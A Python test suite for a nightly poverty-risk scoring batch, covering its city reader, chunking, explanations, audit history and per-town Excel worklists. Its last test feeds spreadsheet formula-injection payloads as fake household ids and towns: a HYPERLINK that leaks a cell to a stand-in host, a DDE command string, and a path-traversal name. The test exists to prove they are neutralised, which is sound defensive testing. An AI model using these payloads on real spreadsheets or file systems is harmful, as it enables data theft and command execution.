"""The nightly batch and worklist (batch/) and the city reader (features/city.py): reading the
city into household-sorted columns gives the tables ``read_tables`` gives and refuses what
``check_tables`` refuses, with the same words; chunking changes no score and no explanation; the
files, the summary, the batch history and each town's worklist say what they should."""

from __future__ import annotations

import argparse
import json
import math

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

from batch import (
    CONTRIB_PREFIX,
    NOTE,
    SUMMARY_SHEET,
    WORKLIST_COLUMNS,
    explain_households,
    run_batch,
    town_capacity,
    write_worklist,
)
from domain.loader import load_served
from features.build import build_features
from features.city import CityTables
from features.contract import TABLE_COLUMNS
from features.io import read_tables, write_tables
from features.tables import Tables, make_tables
from relief_risk.batch_commands import add_batch_parser, add_worklist_parser
from tests.test_io import SETTINGS, _broken, _frames, _set

AS_OF = "2026-09-30"


def _by_household(frame: pd.DataFrame, household: pd.Series) -> pd.DataFrame:
    """Rows in household order, their own order kept within a household (as the store keeps them)."""
    order = np.argsort(household.to_numpy(dtype=object), kind="stable")
    return frame.iloc[order].reset_index(drop=True)


def _household_of_person(tables: Tables, table: str) -> pd.Series:
    owner = dict(zip(tables.persons["person_id"], tables.persons["household_id"], strict=True))
    return getattr(tables, table)["person_id"].map(owner)


# ---- reading ------------------------------------------------------------------------------------
def test_store_holds_the_tables_read_tables_reads(city_dir, city_tables, policy):
    city = CityTables.read(city_dir, policy=policy)
    whole = city.slice(0, city.n)
    assert city.dropped == {"persons": 0, "income": 0, "claims": 0, "assistance": 0}
    for name in ("households", "persons", "assistance"):
        expected = _by_household(getattr(city_tables, name), getattr(city_tables, name)["household_id"])
        pd.testing.assert_frame_equal(getattr(whole, name), expected, check_exact=True, obj=name)
    for name in ("income", "claims"):
        expected = _by_household(getattr(city_tables, name), _household_of_person(city_tables, name))
        pd.testing.assert_frame_equal(getattr(whole, name), expected, check_exact=True, obj=name)
    assert city.last_income_day().isoformat() == "2026-10-31"


def _shuffled(tables: Tables, seed: int = 1) -> Tables:
    rng = np.random.default_rng(seed)
    frames = {name: getattr(tables, name) for name in TABLE_COLUMNS}
    return make_tables(**{name: f.iloc[rng.permutation(len(f))].drop(columns=["month_index"], errors="ignore")
                          for name, f in frames.items()})


def test_chunks_and_any_subset_give_the_whole_city_features(city_tables, policy):
    shuffled = _shuffled(city_tables)  # rows in no order: the store sorts them by household
    # the whole shuffled city at once (a sum's last bits depend on the order of its terms, and the
    # store keeps each household's rows in the order it was given them)
    expected = build_features(shuffled, AS_OF, policy)
    city = CityTables.from_tables(shuffled)
    parts = [build_features(city.slice(lo, min(lo + 3001, city.n)), AS_OF, policy) for lo in range(0, city.n, 3001)]
    assert [len(p) for p in parts][:2] == [3001, 3001]
    chunked = np.vstack([p.to_numpy() for p in parts])
    assert list(np.concatenate([p.index.to_numpy() for p in parts])) == list(expected.index)
    np.testing.assert_array_equal(chunked, expected.to_numpy())  # exact, NaN where NaN
    codes = np.random.default_rng(2).choice(city.n, 300, replace=False)
    subset = build_features(city.take(codes), AS_OF, policy)
    pd.testing.assert_frame_equal(subset, expected.iloc[np.sort(codes)], check_exact=True)
    for code in codes[:5]:
        pd.testing.assert_frame_equal(build_features(city.take([code]), AS_OF, policy), expected.iloc[[code]],
                                      check_exact=True)


@pytest.mark.parametrize(("table", "change", "message"), [
    ("claims", _set(0, "total_cost", 68000.01), "claims: 1 rows where total_cost != the sum of its parts"),
    ("claims", _set(1, "setting", "emergency"), f"claims.setting: 1 values outside {SETTINGS}"),
    ("income", _set(0, "amount", -1.0), "income.amount: negative, missing or non-finite values"),
    ("claims", _set(1, "claim_id", "C1"), "claims.claim_id: duplicated keys"),
    ("persons", _set(0, "relation", "other"), "persons: each household needs exactly one head"),
    ("persons", _set(1, "relation", "head"), "persons: each household needs exactly one head"),
    ("income", _set(1, "person_id", "P404"), "income.person_id: persons not in the persons table"),
    ("claims", _set(0, "person_id", "P404"), "claims.person_id: persons not in the persons table"),
    ("persons", _set(1, "disability_grade", 5), "persons.disability_grade: outside 0-4"),
    ("households", _set(0, "town", "atlantis"), "households.town: 1 unknown town codes"),
    ("income", _set(0, "month", "2026-13"), "income.month: 1 values not a YYYY-MM month"),
    ("claims", _set(0, "service_date", None), "claims.service_date: 1 missing dates"),
    ("households", _set(1, "household_id", "H1"), "households.household_id: duplicated keys"),
])
@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_store_refuses_bad_files_as_read_tables_does(tmp_path, policy, table, change, message, fmt):
    write_tables(_frames(_broken(table, change)), tmp_path, fmt=fmt)
    with pytest.raises(ValueError) as expected:
        read_tables(tmp_path, policy=policy)
    with pytest.raises(ValueError) as err:
        CityTables.read(tmp_path, policy=policy)
    assert str(err.value) == str(expected.value)
    assert message in str(err.value)


def test_rows_of_unknown_households_and_persons_are_left_out(tmp_path, policy):
    frames = _frames(_broken("income", _set(1, "person_id", "P404")))
    write_tables(frames, tmp_path)
    city = CityTables.read(tmp_path, check=False)
    assert city.dropped["income"] == 1
    reference = read_tables(tmp_path, check=False)
    pd.testing.assert_frame_equal(build_features(city.slice(0, city.n), AS_OF, policy),
                                  build_features(reference, AS_OF, policy), check_exact=True)


@pytest.mark.parametrize(("capacity", "households", "expected"), [
    (0.02, 1000, 20), (0.02, 1001, 21), (0.5, 3, 2), (15, 1000, 15), (15.0, 3, 15)])
def test_town_capacity_is_a_share_or_a_number(capacity, households, expected):
    assert town_capacity(capacity, households) == expected


@pytest.mark.parametrize("capacity", [0, -0.1, 2.5, True])
def test_town_capacity_refuses_nonsense(capacity):
    with pytest.raises(ValueError):
        town_capacity(capacity, 100)


def test_cli_parsers():
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="command", required=True)
    add_batch_parser(sub)
    add_worklist_parser(sub)
    a = parser.parse_args(["batch", "--data", "d", "--out", "o", "--chunk", "25000", "--explain", "all",
                           "--record-url", "sqlite:///a.db", "--as-of", "2026-09-30"])
    assert (a.data, a.out, a.chunk, a.explain, a.record_url, a.as_of) == (
        "d", "o", 25000, "all", "sqlite:///a.db", "2026-09-30")
    a = parser.parse_args(["worklist", "--data", "d", "--out", "o", "--capacity", "40"])
    assert (a.capacity, a.chunk, a.explain) == ("40", 50_000, "flagged")


# ---- the batch with the champion ----------------------------------------------------------------
@pytest.fixture(scope="module")
def served(trained):
    models, missing = load_served()
    assert [m.name for m in models] == ["illness_poverty"]
    assert missing == ["disability_poverty", "unemployment_poverty", "elderly_care_need", "child_in_difficulty"]
    return models


@pytest.fixture(scope="module")
def batch(served, city_dir, policy, tmp_path_factory):
    out = tmp_path_factory.mktemp("batch")
    url = f"sqlite:///{out / 'audit.db'}"
    city = CityTables.read(city_dir, policy=policy)
    summary = run_batch(city, out, served, policy, as_of=AS_OF, chunk=7000, record_url=url, progress=False)
    return {"summary": summary, "city": city, "url": url, "out": out}


@pytest.mark.slow
def test_batch_scores_equal_the_whole_city_scored_at_once(batch, served, city_tables, policy):
    version, model = served[0].version, served[0].model
    features = build_features(city_tables, AS_OF, policy)
    expected = model.predict_frame(features)
    scores = pq.read_table(batch["out"] / "scores.parquet").to_pandas()
    risk = "illness_poverty"
    assert list(scores.columns) == ["household_id", "town", "as_of", f"{risk}__probability", f"{risk}__raw_score",
                                    f"{risk}__band", f"{risk}__flagged", f"{risk}__model_version",
                                    "flagged_any", "lists"]
    assert list(scores["household_id"]) == list(expected.index)
    np.testing.assert_array_equal(scores[f"{risk}__probability"], expected["probability"])
    np.testing.assert_array_equal(scores[f"{risk}__raw_score"], expected["raw_score"])
    assert list(scores[f"{risk}__band"]) == list(expected["band"])
    assert list(scores[f"{risk}__flagged"]) == list(expected["flagged"])
    assert (scores[f"{risk}__model_version"] == version).all()
    assert (scores["as_of"].astype(str) == AS_OF).all()
    towns = city_tables.households.set_index("household_id")["town"]
    assert list(scores["town"]) == list(towns.loc[expected.index])
    # today's lists: the ids of the columns list_matrix sets, in book order
    from policy.lists import list_matrix, load_lists

    matrix = list_matrix(features, AS_OF, policy, load_lists())
    assert [list(x) for x in scores["lists"]] == [list(matrix.columns[row]) for row in matrix.to_numpy()]


@pytest.mark.slow
def test_flagged_explanations_are_the_exact_contributions(batch, served, city_tables, policy):
    from models.explain import contributions

    model = served[0].model
    features = build_features(city_tables, AS_OF, policy)
    flagged = model.predict_frame(features).query("flagged").index
    explanations = pq.read_table(batch["out"] / "explanations.parquet").to_pandas()
    assert len(flagged) > 0 and list(explanations["household_id"]) == list(flagged)
    assert list(explanations.columns[:8]) == ["household_id", "town", "risk", "model_version", "probability",
                                              "flagged", "raw_score", "base_value"]
    assert explanations["flagged"].all()
    x = model.matrix(features.loc[flagged])
    contrib = model.contributions(x)  # the served explainer: what the batch must have stored, exactly
    stored = explanations[[CONTRIB_PREFIX + f for f in model.schema.ids]].to_numpy()
    np.testing.assert_array_equal(stored, contrib[:, :-1])
    np.testing.assert_array_equal(explanations["base_value"], contrib[:, -1])
    reference = contributions(model.booster, x)  # LightGBM's own pred_contrib
    np.testing.assert_allclose(contrib, reference, rtol=0, atol=1e-9)
    np.testing.assert_allclose(explanations["base_value"] + stored.sum(axis=1), explanations["raw_score"],
                               rtol=0, atol=1e-6)
    first = json.loads(explanations["reasons"].iloc[0])
    assert 1 <= len(first) <= 5 and all("：" in r["display"] for r in first)
    c = dict(zip(model.schema.ids, contrib[0, :-1], strict=True))
    assert [r["feature"] for r in first] == sorted(c, key=lambda f: -abs(c[f]))[:len(first)]


@pytest.mark.slow
def test_summary_and_batch_history(batch, served, city_tables):
    from store.audit import AuditStore
    from store.history import household_batches

    summary = batch["summary"]
    written = json.loads((batch["out"] / "summary.json").read_text(encoding="utf-8"))
    scores = pq.read_table(batch["out"] / "scores.parquet").to_pandas()
    n_flagged = int(scores["illness_poverty__flagged"].sum())
    assert written["households"] == len(city_tables.households) == summary.households
    assert written["flagged"] == {"illness_poverty": n_flagged} and written["flagged_any"] == n_flagged
    assert written["explained"] == {"illness_poverty": n_flagged}
    assert written["as_of"] == AS_OF and written["chunk"] == 7000 and written["chunks"] == math.ceil(
        summary.households / 7000)
    assert written["models"] == [{"name": "illness_poverty", "version": served[0].version, "risk": "illness_poverty"}]
    assert {"read", "features", "scores", "explain", "lists", "write", "record", "total"} <= set(written["seconds"])
    assert 0 < written["peak_rss_mb"] < 24 * 1024
    assert written["run_id"] == summary.run_id
    engine = AuditStore(batch["url"]).engine
    for row in scores.iloc[[0, int(np.flatnonzero(scores["illness_poverty__flagged"])[0])]].itertuples():
        history = household_batches(engine, row.household_id)
        assert len(history) == 1 and history[0]["id"] == summary.run_id and history[0]["as_of"] == AS_OF
        assert history[0]["scores"] == [{"risk": "illness_poverty", "probability": row.illness_poverty__probability,
                                         "band": row.illness_poverty__band, "flagged": row.illness_poverty__flagged,
                                         "model_version": served[0].version}]
    engine.dispose()


@pytest.mark.slow
def test_explain_on_demand_from_files_or_tables(batch, served, city_dir, policy):
    explanations = pq.read_table(batch["out"] / "explanations.parquet").to_pandas().set_index("household_id")
    scores = pq.read_table(batch["out"] / "scores.parquet").to_pandas().set_index("household_id")
    wanted = [explanations.index[0], scores.index[~scores["illness_poverty__flagged"]][0]]
    from_files = explain_households(city_dir, wanted, served, policy, AS_OF)
    from_store = explain_households(batch["city"], wanted, served, policy, AS_OF)
    pd.testing.assert_frame_equal(from_files, from_store)
    assert list(from_files["household_id"]) == sorted(wanted)
    row = from_files.set_index("household_id").loc[wanted[0]]
    stored = explanations.loc[wanted[0]]
    for column in ["probability", "raw_score", "base_value", *(CONTRIB_PREFIX + f for f in served[0].model.schema.ids)]:
        assert row[column] == stored[column], column
    assert row["reasons"] == json.loads(stored["reasons"])
    unflagged = from_files.set_index("household_id").loc[wanted[1]]
    assert not unflagged["flagged"] and (
        unflagged["probability"] == scores.loc[wanted[1], "illness_poverty__probability"])


@pytest.mark.slow
def test_worklist_per_town(batch, policy, tmp_path):
    from openpyxl import load_workbook

    from domain.advice import Advisor

    files = write_worklist(batch["summary"], batch["city"], tmp_path, 0.02, Advisor.load(policy=policy),
                           progress=False)
    scores = pq.read_table(batch["out"] / "scores.parquet").to_pandas()
    assert set(files.csv) == set(policy.latest.towns)
    for town, path in files.csv.items():
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens UTF-8 Chinese correctly
        frame = pd.read_csv(path, encoding="utf-8-sig", dtype={"户编号": str})
        assert list(frame.columns) == list(WORKLIST_COLUMNS)
        in_town = scores.loc[scores["town"] == town]
        flagged = in_town.loc[in_town["illness_poverty__flagged"]]
        assert len(frame) == files.listed[town] == min(math.ceil(0.02 * len(in_town)), len(flagged))
        assert list(frame["排名"]) == list(range(1, len(frame) + 1))
        top = flagged.sort_values(["illness_poverty__probability", "household_id"], ascending=[False, True])
        assert list(frame["户编号"]) == list(top["household_id"].head(len(frame)))
        assert (frame["最高风险概率"].diff().dropna() <= 0).all()
        assert (frame["风险类型"] == "因病致贫").all()
        assert frame["主要原因"].str.startswith("【因病致贫】").all()
    wb = load_workbook(files.excel)
    assert wb.sheetnames[0] == SUMMARY_SHEET and len(wb.sheetnames) == 1 + len(files.csv)
    assert "杨舍 yangshe" in wb.sheetnames and all(len(name) <= 31 for name in wb.sheetnames)
    ws = wb["杨舍 yangshe"]
    assert ws["A1"].value == NOTE and "不作为拒绝救助的依据" in NOTE
    assert [c.value for c in ws[2]] == list(WORKLIST_COLUMNS) and ws.freeze_panes == "A3"
    assert ws.max_row == 2 + files.listed["yangshe"]
    assert ws.column_dimensions["H"].width == WORKLIST_COLUMNS["主要原因"]
    assert ws.cell(row=3, column=8).alignment.wrap_text
    overview = wb[SUMMARY_SHEET]
    assert overview["A1"].value == NOTE
    header = [c.value for c in overview[4]]
    assert header[:4] == ["市", "镇（街道）", "户数", "模型标记户数（任一风险）"]
    assert header[-2:] == ["走访容量", "清单户数"]
    assert {overview.cell(row=r, column=1).value for r in range(5, overview.max_row + 1)} == {"张家港市"}
    assert sum(overview.cell(row=r, column=3).value for r in range(5, overview.max_row + 1)) == len(scores)


@pytest.mark.slow
def test_a_household_only_the_nightly_batch_scored_has_a_full_file(served, city_dir, policy, mlflow_uri, tmp_path):
    import shutil

    from fastapi.testclient import TestClient

    from features.catalog import FEATURE_IDS
    from serving.app import create_app
    from serving.settings import Settings
    from tests.conftest import KEYS_ENV, auth

    url = f"sqlite:///{tmp_path / 'audit.db'}"
    out = tmp_path / "batch"
    summary = run_batch(city_dir, out, served, policy, as_of=AS_OF, record_url=url, progress=False)
    scores = pq.read_table(out / "scores.parquet").to_pandas()
    flagged = scores[scores["illness_poverty__flagged"]].iloc[0]
    calm = scores[~scores["illness_poverty__flagged"]].iloc[0]
    settings = Settings(api_keys=KEYS_ENV, audit_url=url, mlflow_tracking_uri=mlflow_uri)
    with TestClient(create_app(settings)) as c:
        got = c.get(f"/v1/households/{flagged['household_id']}", headers=auth("platform"))
        assert got.status_code == 200, got.text
        f = got.json()
        assert f["latest"] == {"source": "nightly_batch", "request_id": None, "run_id": summary.run_id,
                               "created_at": f["history"][0]["created_at"], "as_of": AS_OF, "town": flagged["town"]}
        assert [x["feature"] for x in f["features"]] == [fid for fid in FEATURE_IDS if fid in
                                                         {x["feature"] for x in f["features"]}]
        assert len(f["features"]) == len(FEATURE_IDS) and all(x["label"] for x in f["features"])
        (s,) = f["scores"]
        assert s["probability"] == flagged["illness_poverty__probability"] and s["flagged"] and s["band"] == "high"
        assert s["reasons"] and s["reasons"][0]["label"] and s["base_value"] is not None
        assert [x["list"] for x in f["lists"]] == list(flagged["lists"])  # the same lists as the batch's
        assert f["eligibility"]["programs"] and f["warm_list"] is not None
        quiet = c.get(f"/v1/households/{calm['household_id']}", headers=auth("platform")).json()
        assert quiet["scores"][0]["reasons"] == [] and quiet["scores"][0]["base_value"] == s["base_value"]
        assert quiet["features"] and quiet["eligibility"] is not None
        shutil.rmtree(out)  # the run's folder gone: the file keeps the batch's history only
        gone = c.get(f"/v1/households/{flagged['household_id']}", headers=auth("platform")).json()
        assert gone["latest"] is None and gone["history"][0]["id"] == summary.run_id


@pytest.mark.slow
def test_worklist_writes_ids_and_towns_that_look_like_formulas_as_text(batch, served, city_tables, policy, tmp_path):
    """Household ids and towns come from the input tables: ids and towns that Excel would run as a
    formula (``=``, ``+``, ``-``, ``@``), towns that name a path or clash once cleaned. Every CSV and
    the workbook hold them as text (a leading ``'``, OWASP's advice), numbers stay numbers, and each
    town's file is one file in the worklist's folder."""
    import csv

    from openpyxl import load_workbook

    from domain.advice import Advisor
    from features.cells import FORMULA_START

    scores = pq.read_table(batch["out"] / "scores.parquet").to_pandas()
    flagged = scores.loc[scores["illness_poverty__flagged"], "household_id"].head(6).tolist()
    keep = set(flagged) | set(scores["household_id"].head(100))
    ids = dict(zip(flagged, ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+86-1", "-2+3", "@SUM(A1)",
                             "=1+1", "=cmd|' /C calc'!A0"], strict=True))
    towns = dict(zip(ids.values(), ["=1+1", "../../escape", "a/b", "a_b", "@town", "\u202e-x"], strict=True))
    frames = {name: getattr(city_tables, name) for name in TABLE_COLUMNS if name != "verifications"}
    households = frames["households"].loc[lambda f: f["household_id"].isin(keep)].copy()
    persons = frames["persons"].loc[lambda f: f["household_id"].isin(keep)].copy()
    subset = {
        "households": households, "persons": persons,
        "income": frames["income"].loc[lambda f: f["person_id"].isin(persons["person_id"])],
        "claims": frames["claims"].loc[lambda f: f["person_id"].isin(persons["person_id"])],
        "assistance": frames["assistance"].loc[lambda f: f["household_id"].isin(keep)].copy()}
    for name in ("households", "persons", "assistance"):
        subset[name]["household_id"] = subset[name]["household_id"].astype(object).replace(ids)
    households["town"] = [towns.get(h, t) for h, t in zip(households["household_id"], households["town"].astype(object),
                                                          strict=True)]
    tables = make_tables(**{n: f.drop(columns=["month_index"], errors="ignore") for n, f in subset.items()})
    summary = run_batch(tables, tmp_path / "batch", served, policy, as_of=AS_OF, chunk=None, progress=False)
    out = tmp_path / "worklist"
    files = write_worklist(summary, tables, out, 5, Advisor.load(policy=policy), progress=False)

    assert set(towns.values()) <= set(files.csv)
    names = [p.name for p in files.csv.values()]
    assert len(set(names)) == len(names) and all(p.parent == out for p in files.csv.values())
    assert {"worklist_=1+1.csv", "worklist_____escape.csv", "worklist_a_b.csv", "worklist_a_b_2.csv",
            "worklist__-x.csv"} <= set(names)
    assert sorted(p.name for p in out.iterdir()) == sorted([*names, "worklist.xlsx"])

    listed = []
    for path in files.csv.values():
        with path.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        assert rows[0] == list(WORKLIST_COLUMNS)
        for row in rows[1:]:
            assert not any(cell.startswith(FORMULA_START) for cell in row), row
            listed.append(row[1])
            assert row[0].isdigit()  # the rank: a number, not text
    assert {"'" + i for i in ids.values()} <= set(listed)

    wb = load_workbook(files.excel)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert not any(isinstance(c.value, str) and c.value.startswith(FORMULA_START) for c in cells)
    texts = {c.value for c in cells}
    assert {"'" + i for i in ids.values()} <= texts and "'=1+1 =1+1" in texts  # the summary's town cell
    ws = wb[next(n for n in wb.sheetnames if n.startswith("=1+1"))]
    assert all(isinstance(ws.cell(row=r, column=1).value, int) for r in range(3, ws.max_row + 1))
    assert all(isinstance(ws.cell(row=r, column=7).value, float) for r in range(3, ws.max_row + 1))  # 最高风险概率
